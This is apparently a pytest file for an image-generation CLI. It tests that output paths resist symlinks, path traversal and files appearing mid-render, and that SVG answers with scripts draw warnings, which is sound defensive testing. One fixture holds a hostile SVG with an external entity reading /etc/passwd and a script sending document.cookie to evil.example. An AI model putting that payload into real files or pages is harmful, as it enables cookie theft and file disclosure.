"""Output paths stay where they belong and files are never clobbered, against a hostile file
system (symlinks, files that appear while the image renders) and hostile answers (SVG scripts).

All through the CLI as a subprocess, with real folders and real symlinks; rescue files go to a
TMPDIR of the test's own.
"""

from __future__ import annotations

import base64
import errno
import json
import os
import re
import stat
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import pytest

import generate_gateway_image as g
from tests import images
from tests.conftest import (
    PNG,
    SCRIPT,
    clean_env,
    image_reply,
    leftovers,
    permissions_bind,
    report,
    run_cli,
)
from tests.gateway import Gateway
from tests.hostile import on_arrival

OTHER = b"not yours to replace\n"


@pytest.fixture
def tenv(tmp_path: Path, codex_home: Path) -> dict[str, str]:
    """The usual environment, with the system temp folder (rescue files) inside tmp_path."""
    (tmp_path / "tmp").mkdir()
    return clean_env(CODEX_HOME=str(codex_home), TMPDIR=str(tmp_path / "tmp"))


def rescued(tmp_path: Path) -> list[Path]:
    return sorted((tmp_path / "tmp").glob("codex-imagegen-rescue-*"))


def batch(tmp_path: Path, *lines: dict[str, object]) -> Path:
    path = tmp_path / "jobs.jsonl"
    path.write_text("".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8")
    return path


# --- 3. batch `out` stays inside --out-dir ------------------------------------------------------


def test_batch_out_through_a_symlinked_subfolder_is_refused(
    tmp_path: Path, gateway: Gateway, tenv: dict[str, str]
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    out_dir = tmp_path / "renders"
    out_dir.mkdir()
    (out_dir / "posters").symlink_to(outside, target_is_directory=True)
    jobs = batch(tmp_path, {"prompt": "fox", "out": "posters/fox.png"})
    args = ["--batch", str(jobs), "--out-dir", str(out_dir), "--sidecar", "--partial-images", "1"]
    proc = run_cli(args, tenv)
    assert proc.returncode == 2, report(proc, gateway)
    assert "through a symlink" in proc.stderr and f"{jobs}:1:" in proc.stderr, proc.stderr
    assert gateway.requests == []
    assert list(outside.iterdir()) == []


def test_batch_out_through_a_symlink_that_stays_inside_is_fine(
    tmp_path: Path, gateway: Gateway, tenv: dict[str, str]
) -> None:
    out_dir = tmp_path / "renders"
    (out_dir / "real").mkdir(parents=True)
    (out_dir / "alias").symlink_to(out_dir / "real", target_is_directory=True)
    gateway.enqueue(image_reply())
    jobs = batch(tmp_path, {"prompt": "fox", "out": "alias/fox.png"})
    proc = run_cli(["--batch", str(jobs), "--out-dir", str(out_dir)], tenv)
    assert proc.returncode == 0, report(proc, gateway)
    assert (out_dir / "real" / "fox.png").read_bytes() == PNG


@pytest.mark.parametrize(
    "name",
    [
        "../x.png",
        "a/../../x.png",
        "/tmp/x.png",
        "C:x.png",
        "c:/x.png",
        "a\\b.png",
        "\\\\server\\share\\x.png",
        "x.png:stream",
        "a\u0000b.png",
        "CON",
        "con.png",
        "Nul.tar.gz",
        "sub/aux.png",
        "COM1.png",
        "lpt9",
        "PRN .png",
        ".",
        "sub/..",
    ],
)
def test_batch_out_refused_on_every_platform(
    tmp_path: Path, gateway: Gateway, tenv: dict[str, str], name: str
) -> None:
    jobs = batch(tmp_path, {"prompt": "x"}, {"prompt": "y", "out": name})
    for extra in ([], ["--dry-run"]):
        proc = run_cli(["--batch", str(jobs), "--out-dir", str(tmp_path / "out"), *extra], tenv)
        assert proc.returncode == 2, report(proc, gateway)
        assert f"{jobs}:2: out " in proc.stderr and "inside --out-dir" in proc.stderr
        assert "Traceback" not in proc.stderr
    assert gateway.requests == []
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    "name", ["sub/fox.png", "a/../b.png", "console.png", "com10.png", "lpt.png"]
)
def test_batch_out_names_that_are_fine(
    tmp_path: Path, gateway: Gateway, tenv: dict[str, str], name: str
) -> None:
    jobs = batch(tmp_path, {"prompt": "y", "out": name})
    proc = run_cli(["--batch", str(jobs), "--out-dir", str(tmp_path / "out"), "--dry-run"], tenv)
    assert proc.returncode == 0, report(proc)


# --- 4. no clobber at the last step; 5. private rescue files -------------------------------------


def test_dangling_symlink_appearing_at_out_is_not_replaced(
    tmp_path: Path, gateway: Gateway, tenv: dict[str, str]
) -> None:
    out = tmp_path / "o.png"
    target = tmp_path / "elsewhere.png"
    gateway.enqueue(on_arrival(lambda: out.symlink_to(target), image_reply()))
    proc = run_cli(["--prompt", "p", "--out", str(out)], tenv)
    assert proc.returncode == 7, report(proc, gateway)
    assert out.is_symlink() and os.readlink(out) == str(target) and not target.exists()
    (rescue,) = rescued(tmp_path)
    assert str(rescue) in proc.stderr and g.NAME_TAKEN in proc.stderr, proc.stderr
    assert rescue.read_bytes() == PNG
    assert leftovers(tmp_path) == []


def test_file_appearing_at_out_is_kept_and_the_rescue_file_is_private(
    tmp_path: Path, gateway: Gateway, tenv: dict[str, str]
) -> None:
    out = tmp_path / "o.png"
    gateway.enqueue(on_arrival(lambda: out.write_bytes(OTHER), image_reply()))
    proc = run_cli(["--prompt", "p", "--out", str(out), "--json"], tenv)
    assert proc.returncode == 7, report(proc, gateway)
    assert out.read_bytes() == OTHER
    (rescue,) = rescued(tmp_path)
    assert json.loads(proc.stdout)["path"] == str(rescue)
    assert re.fullmatch(r"codex-imagegen-rescue-[0-9a-f]{12}\.png", rescue.name), rescue.name
    assert stat.S_IMODE(rescue.stat().st_mode) == 0o600
    assert rescue.read_bytes() == PNG


def test_rescue_file_is_private_when_the_folder_cannot_take_the_image(
    tmp_path: Path, gateway: Gateway, tenv: dict[str, str]
) -> None:
    """The folder for --out becomes a file while the image renders (root ignores modes)."""
    parent = tmp_path / "made-later"
    gateway.enqueue(on_arrival(lambda: parent.write_bytes(b"x"), image_reply()))
    proc = run_cli(["--prompt", "p", "--out", str(parent / "o.png")], tenv)
    assert proc.returncode == 7, report(proc, gateway)
    (rescue,) = rescued(tmp_path)
    assert stat.S_IMODE(rescue.stat().st_mode) == 0o600 and rescue.read_bytes() == PNG


def test_force_replaces_what_appeared(
    tmp_path: Path, gateway: Gateway, tenv: dict[str, str]
) -> None:
    out = tmp_path / "o.png"
    target = tmp_path / "elsewhere.png"
    gateway.enqueue(on_arrival(lambda: out.symlink_to(target), image_reply()))
    proc = run_cli(["--prompt", "p", "--out", str(out), "--force"], tenv)
    assert proc.returncode == 0, report(proc, gateway)
    assert not out.is_symlink() and out.read_bytes() == PNG and not target.exists()
    assert stat.S_IMODE(out.stat().st_mode) == 0o644  # the image itself: normal permissions
    assert rescued(tmp_path) == [] and leftovers(tmp_path) == []


def run_without_hard_links(
    args: list[str], env: dict[str, str]
) -> subprocess.CompletedProcess[str]:
    """The script on a file system without hard links: os.link fails with EPERM (as on FAT)."""
    code = (
        "import errno, os, runpy, sys\n"
        "def link(*a, **k):\n"
        "    raise OSError(errno.EPERM, 'Operation not permitted')\n"
        "os.link = link\n"
        f"sys.argv = [{str(SCRIPT)!r}] + sys.argv[1:]\n"
        f"runpy.run_path({str(SCRIPT)!r}, run_name='__main__')\n"
    )
    return subprocess.run(
        [sys.executable, "-c", code, *args],
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
        encoding="utf-8",
    )


def test_without_hard_links_the_image_is_still_saved_and_nothing_clobbered(
    tmp_path: Path, gateway: Gateway, tenv: dict[str, str]
) -> None:
    gateway.enqueue(image_reply())
    out = tmp_path / "o.png"
    proc = run_without_hard_links(["--prompt", "p", "--out", str(out)], tenv)
    assert proc.returncode == 0, report(proc, gateway)
    assert out.read_bytes() == PNG and leftovers(tmp_path) == []

    out2 = tmp_path / "o2.png"
    gateway.enqueue(on_arrival(lambda: out2.symlink_to(tmp_path / "nowhere"), image_reply()))
    proc = run_without_hard_links(["--prompt", "p", "--out", str(out2)], tenv)
    assert proc.returncode == 7, report(proc, gateway)
    assert out2.is_symlink() and len(rescued(tmp_path)) == 1


# --- 6. the sidecar ------------------------------------------------------------------------------


def test_sidecar_does_not_replace_an_unrelated_file(
    tmp_path: Path, gateway: Gateway, tenv: dict[str, str]
) -> None:
    out = tmp_path / "o.png"
    unrelated = tmp_path / "o.png.json"
    unrelated.write_text('{"my": "settings"}\n', encoding="utf-8")
    proc = run_cli(["--prompt", "p", "--out", str(out), "--sidecar"], tenv)
    assert proc.returncode == 7, report(proc, gateway)
    assert "not a sidecar written by this script" in proc.stderr and "--force" in proc.stderr
    assert gateway.requests == [] and not out.exists()
    assert unrelated.read_text(encoding="utf-8") == '{"my": "settings"}\n'

    gateway.enqueue(image_reply())
    proc = run_cli(["--prompt", "p", "--out", str(out), "--sidecar", "--force"], tenv)
    assert proc.returncode == 0, report(proc, gateway)
    assert json.loads(unrelated.read_text(encoding="utf-8"))["path"] == "o.png"


def test_a_deeply_nested_file_at_the_sidecar_path_is_not_a_crash(
    tmp_path: Path, gateway: Gateway, tenv: dict[str, str]
) -> None:
    # json.loads raised RecursionError while checking whether OUT.json is ours: exit 1
    out = tmp_path / "o.png"
    deep = "[" * 200_000 + "]" * 200_000
    (tmp_path / "o.png.json").write_text(deep, encoding="utf-8")
    proc = run_cli(["--prompt", "p", "--out", str(out), "--sidecar"], tenv)
    assert proc.returncode == 7, report(proc, gateway)
    assert "not a sidecar written by this script" in proc.stderr
    assert gateway.requests == []


def test_sidecar_replaces_an_earlier_sidecar_of_its_own(
    tmp_path: Path, gateway: Gateway, tenv: dict[str, str]
) -> None:
    out = tmp_path / "o.png"
    gateway.enqueue(image_reply())
    assert run_cli(["--prompt", "first", "--out", str(out), "--sidecar"], tenv).returncode == 0
    out.unlink()  # the image is gone, its sidecar stayed: a new run may write a new one
    gateway.enqueue(image_reply())
    proc = run_cli(["--prompt", "second", "--out", str(out), "--sidecar"], tenv)
    assert proc.returncode == 0, report(proc, gateway)
    assert json.loads((tmp_path / "o.png.json").read_text(encoding="utf-8"))["prompt"] == "second"


def test_sidecar_appearing_while_the_image_renders_is_kept(
    tmp_path: Path, gateway: Gateway, tenv: dict[str, str]
) -> None:
    out = tmp_path / "o.png"
    sidecar = tmp_path / "o.png.json"
    gateway.enqueue(on_arrival(lambda: sidecar.write_bytes(OTHER), image_reply()))
    proc = run_cli(["--prompt", "p", "--out", str(out), "--sidecar"], tenv)
    assert proc.returncode == 0, report(proc, gateway)
    assert out.read_bytes() == PNG and sidecar.read_bytes() == OTHER
    assert "sidecar is not" in proc.stderr, proc.stderr
    assert leftovers(tmp_path) == []


def test_batch_sidecar_collision_is_found_before_sending(
    tmp_path: Path, gateway: Gateway, tenv: dict[str, str]
) -> None:
    out_dir = tmp_path / "renders"
    out_dir.mkdir()
    (out_dir / "b.png.json").write_bytes(OTHER)
    jobs = batch(tmp_path, {"prompt": "a", "out": "a.png"}, {"prompt": "b", "out": "b.png"})
    proc = run_cli(["--batch", str(jobs), "--out-dir", str(out_dir), "--sidecar"], tenv)
    assert proc.returncode == 7, report(proc, gateway)
    assert f"{jobs}:2:" in proc.stderr and gateway.requests == []


# --- 7. SVG answers that could run code ----------------------------------------------------------

RISKY_SVG = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     width="10" height="10" onload="alert(1)">
  <script>fetch('https://evil.example/?c=' + document.cookie)</script>
  <image xlink:href="https://evil.example/pixel.png" width="1" height="1"/>
  <text>&secret;</text>
</svg>
"""
CLEAN_SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b'<defs><linearGradient id="g"/></defs><rect width="10" height="10" fill="url(#g)"/>'
    b'<use href="#g"/><text>salon = one</text></svg>\n'
)


def test_svg_with_scripts_is_saved_with_a_warning_naming_them(
    tmp_path: Path, gateway: Gateway, tenv: dict[str, str]
) -> None:
    gateway.enqueue(image_reply(RISKY_SVG, output_format="svg"))
    out = tmp_path / "logo.svg"
    proc = run_cli(["--prompt", "a logo", "--out", str(out)], tenv)
    assert proc.returncode == 0, report(proc, gateway)
    assert out.read_bytes() == RISKY_SVG
    (warning,) = [line for line in proc.stderr.splitlines() if line.startswith("warning:")]
    for what in ("<script>", "event-handler", "DTD", "external entity", "external references"):
        assert what in warning, warning
    assert str(out) in warning


def test_clean_svg_has_no_warning(tmp_path: Path, gateway: Gateway, tenv: dict[str, str]) -> None:
    gateway.enqueue(image_reply(CLEAN_SVG, output_format="svg"))
    out = tmp_path / "logo.svg"
    proc = run_cli(["--prompt", "a logo", "--out", str(out)], tenv)
    assert proc.returncode == 0, report(proc, gateway)
    assert "warning:" not in proc.stderr, proc.stderr


def test_an_svg_full_of_entity_starts_is_scanned_quickly(
    tmp_path: Path, gateway: Gateway, tenv: dict[str, str]
) -> None:
    # "<!entity[^>]*" scanned to the end of each 256 KB chunk from every "<!ENTITY": about
    # 17 s a chunk, hours for a large answer, after the stream (no timeout covers it)
    svg = b'<svg xmlns="http://www.w3.org/2000/svg">' + b"<!ENTITY " * 40_000 + b"</svg>\n"
    gateway.enqueue(image_reply(svg, output_format="svg"))
    out = tmp_path / "logo.svg"
    started = time.monotonic()
    proc = run_cli(["--prompt", "a logo", "--out", str(out)], tenv)
    assert proc.returncode == 0, report(proc, gateway)
    assert "a DTD" in proc.stderr
    assert time.monotonic() - started < 10


def test_image_stays_beside_out_when_no_rescue_file_can_be_made(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """--out appeared and the temp folder is full: the complete temporary file is kept (and
    named in the error) instead of being deleted with the paid image in it."""
    import errno

    import generate_gateway_image as g

    out = tmp_path / "o.png"
    sink = g.ImageSink(str(out), force=False)
    assert sink.save(images.b64(PNG))
    out.write_bytes(OTHER)

    def full(folder: str, prefix: str, suffix: str, mode: int = 0o666) -> tuple[int, str]:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(g, "create_unique", full)
    with pytest.raises(g.OutputError) as info:
        sink.commit()
    sink.discard()
    kept = Path(info.value.message.rsplit("saved to ", 1)[1])
    assert kept.parent == tmp_path and kept.read_bytes() == PNG
    assert out.read_bytes() == OTHER


def test_disk_full_without_rescue_is_an_output_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    calls: list[str] = []

    def full(folder: str, prefix: str, suffix: str, mode: int = 0o666) -> tuple[int, str]:
        calls.append(folder)
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(g, "create_unique", full)
    out = tmp_path / "out" / "image.png"
    sink = g.ImageSink(str(out), force=False)
    try:
        with pytest.raises(g.OutputError) as info:
            sink.save(images.b64(PNG))
    finally:
        sink.discard()
    assert info.value.exit_code == 7
    assert "No space left on device" in info.value.message
    assert len(calls) == 2  # beside --out, then the rescue folder
    assert not sink.has_image
    assert not out.exists()
    assert leftovers(tmp_path) == []


# --- names the file system refuses, and outputs checked before anything is paid for ---------------


@pytest.mark.parametrize("name", ["a\u0000b.png", "\ud800.png"])
def test_batch_out_name_that_cannot_be_a_file_is_refused_before_sending(
    tmp_path: Path, gateway: Gateway, env: dict[str, str], name: str
) -> None:
    jobs = batch(tmp_path, {"prompt": "x", "out": name})
    proc = run_cli(["--batch", str(jobs), "--out-dir", str(tmp_path / "out"), "--json"], env)
    assert proc.returncode == 2, report(proc, gateway)
    assert gateway.requests == []


def test_sink_rescues_the_image_when_the_name_is_refused(tmp_path: Path) -> None:
    """Defence in depth: a ValueError from the file system is a write failure (rescue file,
    exit 7 later), not a broken connection that would be retried and billed again."""
    sink = g.ImageSink(str(tmp_path / "a\u0000b.png"), force=False)
    assert sink.save(base64.b64encode(PNG).decode("ascii"))
    assert sink.image is not None and sink.image.rescued
    rescued = Path(sink.image.path)
    try:
        assert rescued.parent == Path(tempfile.gettempdir())
        assert rescued.read_bytes() == PNG
    finally:
        rescued.unlink()


@pytest.mark.parametrize("case", ["trailing-slash", "too-long"])
def test_unusable_out_is_refused_before_sending(
    tmp_path: Path, gateway: Gateway, env: dict[str, str], case: str
) -> None:
    out = (
        str(tmp_path / "nd3") + os.sep
        if case == "trailing-slash"
        else str(tmp_path / ("x" * 240 + ".png"))
    )
    proc = run_cli(["--prompt", "p", "--out", out], env)
    assert proc.returncode == 7, report(proc, gateway)
    assert proc.stderr.startswith("error: --out "), proc.stderr
    assert gateway.requests == []


def test_unwritable_folder_is_refused_before_sending(
    tmp_path: Path, gateway: Gateway, env: dict[str, str]
) -> None:
    prefix = permissions_bind()
    folder = tmp_path / "ro"
    folder.mkdir()
    folder.chmod(0o555)
    try:
        proc = subprocess.run(
            [*prefix, sys.executable, str(SCRIPT), "--prompt", "p", "--out", str(folder / "x.png")],
            env=env,
            capture_output=True,
            text=True,
            encoding="utf-8",
            timeout=60,
        )
    finally:
        folder.chmod(0o755)
    assert proc.returncode == 7, report(proc, gateway)
    assert "permission denied" in proc.stderr
    assert gateway.requests == []


@pytest.mark.parametrize(
    "lines",
    [
        [{"prompt": "x", "out": "sub/"}],
        [{"prompt": "x", "out": "same.png"}, {"prompt": "y", "out": "same.png/x.png"}],
    ],
    ids=["folder-name", "output-inside-another-output"],
)
def test_batch_outputs_that_cannot_all_be_written_are_refused(
    tmp_path: Path, gateway: Gateway, env: dict[str, str], lines: list[dict[str, object]]
) -> None:
    jobs = batch(tmp_path, *lines)
    proc = run_cli(["--batch", str(jobs), "--out-dir", str(tmp_path / "out")], env)
    assert proc.returncode in (2, 7), report(proc, gateway)
    assert "nothing was sent" in proc.stderr
    assert gateway.requests == []


def test_batch_input_that_another_job_writes_is_refused(
    tmp_path: Path, gateway: Gateway, env: dict[str, str]
) -> None:
    out_dir = tmp_path / "bo"
    out_dir.mkdir()
    (out_dir / "in.png").write_bytes(PNG)
    jobs = batch(
        tmp_path,
        {"prompt": "x", "out": "in.png"},
        {"prompt": "y", "out": "b.png", "image": str(out_dir / "in.png")},
    )
    proc = run_cli(
        ["--batch", str(jobs), "--out-dir", str(out_dir), "--force", "--concurrency", "1"], env
    )
    assert proc.returncode == 2, report(proc, gateway)
    assert "which line 1 writes" in proc.stderr
    assert gateway.requests == []


@pytest.mark.skipif(os.name != "posix", reason="file names are bytes only on POSIX")
def test_out_name_that_is_not_utf8_is_saved_and_reported(
    tmp_path: Path, gateway: Gateway, env: dict[str, str]
) -> None:
    gateway.enqueue(image_reply())
    out = str(tmp_path / "\udce9t\udce9.png")
    proc = run_cli(["--prompt", "p", "--out", out], env)
    assert proc.returncode == 0, report(proc, gateway)
    assert Path(out).read_bytes() == PNG
    assert proc.stdout.strip().endswith(".png"), proc.stdout
    assert leftovers(tmp_path) == []


# --- rescue files: only for the paid image, and never a message about one that does not exist ----


@pytest.fixture
def systmp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The system temp folder (where rescue files go) for one in-process test."""
    import tempfile

    folder = tmp_path / "systmp"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


def unplaceable_sink(out: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[g.ImageSink, str]:
    """A sink holding PNG whose move to ``out`` is refused (EACCES), so that commit() must
    rescue it; with its temporary file's path."""

    def refused(src: str, dst: str) -> None:
        raise OSError(errno.EACCES, "Permission denied")

    sink = g.ImageSink(str(out), force=False)
    assert sink.save(images.b64(PNG))
    assert sink.tmp is not None
    monkeypatch.setattr(g, "place_new", refused)
    return sink, sink.tmp


def test_when_the_rescue_copy_fails_too_the_temporary_file_is_kept_and_named(
    tmp_path: Path, systmp: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "out" / "image.png"
    sink, temporary = unplaceable_sink(out, monkeypatch)

    def full(folder: str, prefix: str, suffix: str, mode: int = 0o666) -> tuple[int, str]:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(g, "create_unique", full)
    with pytest.raises(g.OutputError) as info:
        sink.commit()
    sink.discard()  # what every caller does afterwards: the only copy must survive it
    assert f"the image was saved to {temporary}" in info.value.message
    assert Path(temporary).read_bytes() == PNG
    assert temporary not in g.ACTIVE_TEMP_FILES  # what the exit clean-up would delete
    assert list(systmp.iterdir()) == [] and not out.exists()
    os.remove(temporary)


def test_a_preview_that_cannot_be_written_is_not_rescued(tmp_path: Path, systmp: Path) -> None:
    # previews are not worth a rescue file: beside --out or nowhere
    folder = tmp_path / "previews"
    folder.mkdir()
    blocked = folder / "image.partial-1.png"
    blocked.mkdir()  # the preview's name is taken by a folder: the final rename fails
    sink = g.ImageSink(str(blocked), force=True, rescue=False)
    try:
        with pytest.raises((OSError, g.ImagegenError)):
            if sink.save(images.b64(PNG)):
                sink.commit()
    finally:
        sink.discard()
    assert list(systmp.iterdir()) == []
    assert sorted(p.name for p in folder.iterdir()) == ["image.partial-1.png"]


def test_a_preview_whose_folder_refuses_files_is_not_rescued(
    tmp_path: Path, systmp: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    real = g.create_unique

    def refuse_beside_out(
        folder: str, prefix: str, suffix: str, mode: int = 0o666
    ) -> tuple[int, str]:
        if Path(folder) != systmp:
            raise OSError(errno.EROFS, "Read-only file system")
        return real(folder, prefix, suffix, mode)

    monkeypatch.setattr(g, "create_unique", refuse_beside_out)
    sink = g.ImageSink(str(tmp_path / "image.partial-1.png"), force=True, rescue=False)
    try:
        with pytest.raises(OSError):
            sink.save(images.b64(PNG))
    finally:
        sink.discard()
    assert list(systmp.iterdir()) == []


@pytest.mark.parametrize("extra", [0, 1])
def test_the_longest_out_name_the_folder_takes(
    tmp_path: Path, gateway: Gateway, env: dict[str, str], extra: int
) -> None:
    # the temporary file beside --out is TEMP_NAME_EXTRA bytes longer than the name itself
    name_max = os.pathconf(tmp_path, "PC_NAME_MAX")
    name = "a" * (name_max - g.TEMP_NAME_EXTRA - 4 + extra) + ".png"
    gateway.set_default(image_reply())
    proc = run_cli(["--prompt", "p", "--out", str(tmp_path / name)], env)
    if extra == 0:
        assert proc.returncode == 0, report(proc, gateway)
        assert (tmp_path / name).read_bytes() == PNG
    else:
        assert proc.returncode == 7, report(proc, gateway)
        takes = name_max - g.TEMP_NAME_EXTRA  # what the message promises fits: the name above
        assert (
            f"file name is too long ({len(name)} bytes; this folder takes {takes} " in proc.stderr
        )
        assert gateway.requests == []


def test_a_rescued_image_is_marked_rescued(
    tmp_path: Path, systmp: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # the flag is what the MCP result's rescued_path and "the paid image is safe at" rest on
    sink, _ = unplaceable_sink(tmp_path / "out" / "image.png", monkeypatch)
    with pytest.raises(g.OutputError):
        sink.commit()
    sink.discard()
    image = sink.image
    assert image is not None and image.rescued
    assert Path(image.path).parent == systmp and Path(image.path).read_bytes() == PNG


# --- creating and placing files: the guards a subprocess cannot reach ----------------------------


def test_create_unique_gives_up_after_a_hundred_taken_names(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(os, "urandom", lambda n: b"\x00" * n)  # every try draws the same name
    taken = tmp_path / (".x." + "00" * 6 + ".part")
    taken.write_bytes(OTHER)
    with pytest.raises(FileExistsError, match="no free temporary file name"):
        g.create_unique(str(tmp_path), ".x.", ".part")
    assert taken.read_bytes() == OTHER  # O_EXCL: the file that was there is untouched
    assert sorted(p.name for p in tmp_path.iterdir()) == [taken.name]


def test_place_new_passes_on_a_link_error_that_is_not_about_hard_links(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    tmp = tmp_path / ".o.png.part"
    tmp.write_bytes(PNG)

    def broken_link(src: str, dst: str) -> None:
        raise OSError(errno.EIO, "Input/output error")  # a failing disk, not a FAT mount

    monkeypatch.setattr(os, "link", broken_link)
    with pytest.raises(OSError) as info:
        g.place_new(str(tmp), str(tmp_path / "o.png"))
    assert info.value.errno == errno.EIO
    assert tmp.read_bytes() == PNG and not (tmp_path / "o.png").exists()  # no rename either


def test_place_new_keeps_the_image_when_the_temporary_name_cannot_be_removed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    tmp = tmp_path / ".o.png.part"
    tmp.write_bytes(PNG)
    real_remove = os.remove

    def refuse(path: str) -> None:
        if path == str(tmp):
            raise OSError(errno.EBUSY, "Device or resource busy")
        real_remove(path)

    monkeypatch.setattr(os, "remove", refuse)
    g.place_new(str(tmp), str(tmp_path / "o.png"))  # the image has its name: no error
    assert (tmp_path / "o.png").read_bytes() == PNG
    assert tmp.exists()  # a stray second name is all that is left


def test_a_sink_that_has_its_image_keeps_it(tmp_path: Path) -> None:
    sink = g.ImageSink(str(tmp_path / "o.png"), force=False)
    try:
        assert sink.save(images.b64(PNG))
        first = sink.image
        assert sink.save("not base64 at all!") is True  # a later candidate is not decoded
        assert sink.image is first and sink.last_error is None
        assert leftovers(tmp_path) == [Path(str(sink.tmp)).name]
    finally:
        sink.discard()
    assert leftovers(tmp_path) == []


def test_the_sha256_of_unpadded_base64_covers_its_last_bytes(tmp_path: Path) -> None:
    import hashlib

    data = images.png_bytes(41, 23)
    assert len(data) % 3  # the last group of the base64 is short
    sink = g.ImageSink(str(tmp_path / "o.png"), force=False, want_sha256=True)
    try:
        assert sink.save(images.b64(data).rstrip("="))
        assert sink.image is not None
        assert sink.image.sha256 == hashlib.sha256(data).hexdigest()
    finally:
        sink.discard()


def test_removing_a_temporary_file_that_is_already_gone_is_quiet(tmp_path: Path) -> None:
    sink = g.ImageSink(str(tmp_path / "o.png"), force=False)
    gone = str(tmp_path / ".o.png.gone.part")
    g.ACTIVE_TEMP_FILES.add(gone)
    sink.tmp = str(tmp_path / ".o.png.other.part")
    sink._remove(gone)  # someone removed it first: nothing to report
    assert gone not in g.ACTIVE_TEMP_FILES
    assert sink.tmp == str(tmp_path / ".o.png.other.part")  # another file: still tracked


def test_a_rescue_copy_that_fails_midway_leaves_no_half_file(
    tmp_path: Path, systmp: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import shutil

    sink, temporary = unplaceable_sink(tmp_path / "out" / "image.png", monkeypatch)

    def copy_until_full(src: object, dst: object, length: int = 0) -> None:
        dst.write(PNG[:10])  # type: ignore[attr-defined]
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(shutil, "copyfileobj", copy_until_full)
    with pytest.raises(g.OutputError) as info:
        sink.commit()
    sink.discard()
    assert f"the image was saved to {temporary}" in info.value.message
    assert Path(temporary).read_bytes() == PNG  # the only copy is kept and named
    assert list(systmp.iterdir()) == []  # the half-written rescue file is gone
    os.remove(temporary)


def test_a_folder_without_pathconf_is_taken_to_allow_255_bytes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Windows has no os.pathconf; 255 is what NTFS, FAT32 (long names) and exFAT allow
    monkeypatch.delattr(os, "pathconf")
    fits = "a" * (255 - g.TEMP_NAME_EXTRA - 4) + ".png"
    g.check_output_path(str(tmp_path / fits), force=False)
    with pytest.raises(g.OutputError, match="file name is too long"):
        g.check_output_path(str(tmp_path / ("b" + fits)), force=False)


# --- the sidecar path: a folder, a symlink, a file too big to be one of ours ---------------------


def test_a_folder_at_the_sidecar_path_is_refused_before_sending(
    tmp_path: Path, gateway: Gateway, tenv: dict[str, str]
) -> None:
    out = tmp_path / "o.png"
    (tmp_path / "o.png.json").mkdir()
    for extra in ([], ["--force"]):  # --force never replaces a folder
        proc = run_cli(["--prompt", "p", "--out", str(out), "--sidecar", *extra], tenv)
        assert proc.returncode == 7, report(proc, gateway)
        assert f"--sidecar: {out}.json is a directory" in proc.stderr
    assert gateway.requests == [] and (tmp_path / "o.png.json").is_dir()


@pytest.mark.parametrize("kind", ["symlink", "too-big"])
def test_a_sidecar_lookalike_that_is_not_a_small_file_is_not_replaced(
    tmp_path: Path, gateway: Gateway, tenv: dict[str, str], kind: str
) -> None:
    out = tmp_path / "o.png"
    gateway.enqueue(image_reply())
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    first = elsewhere / "o.png"
    assert run_cli(["--prompt", "p", "--out", str(first), "--sidecar"], tenv).returncode == 0
    ours = (elsewhere / "o.png.json").read_bytes()
    sidecar = tmp_path / "o.png.json"
    if kind == "symlink":  # a link to a real sidecar: writing through it would change that file
        sidecar.symlink_to(elsewhere / "o.png.json")
    else:  # one of ours, then blank space past MAX_SIDECAR_BYTES: still valid JSON
        sidecar.write_bytes(ours + b" " * g.MAX_SIDECAR_BYTES)
    before = sidecar.read_bytes()
    proc = run_cli(["--prompt", "p", "--out", str(out), "--sidecar"], tenv)
    assert proc.returncode == 7, report(proc, gateway)
    assert "not a sidecar written by this script" in proc.stderr
    assert len(gateway.posts()) == 1 and not out.exists()
    assert sidecar.read_bytes() == before
    assert (elsewhere / "o.png.json").read_bytes() == ours


def test_ctrl_c_during_a_rescue_copy_stays_ctrl_c_when_its_half_copy_cannot_be_removed(
    tmp_path: Path, systmp: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import shutil

    sink, temporary = unplaceable_sink(tmp_path / "out" / "image.png", monkeypatch)
    real_remove = os.remove

    def interrupted(src: object, dst: object, length: int = 0) -> None:
        raise KeyboardInterrupt

    def remove(path: str) -> None:
        if Path(path).parent == systmp:
            raise OSError(errno.EROFS, "Read-only file system")
        real_remove(path)

    monkeypatch.setattr(shutil, "copyfileobj", interrupted)
    monkeypatch.setattr(os, "remove", remove)
    with pytest.raises(KeyboardInterrupt):  # not the clean-up's OSError, taken for a full disk
        sink.commit()
    assert Path(temporary).read_bytes() == PNG
    monkeypatch.undo()
    sink.discard()
    assert not Path(temporary).exists()


def test_an_allowed_folder_named_twice_is_listed_once(
    tmp_path: Path, gateway: Gateway, tenv: dict[str, str]
) -> None:
    # --allow-dir the same as --out-dir, by another spelling and through a symlink: one folder
    outputs = tmp_path / "outputs"
    outputs.mkdir()
    link = tmp_path / "link"
    link.symlink_to(outputs)
    other = tmp_path / "other"
    other.mkdir()
    args = ["--mcp", "--out-dir", str(outputs), "--allow-dir", f"{outputs}{os.sep}"]
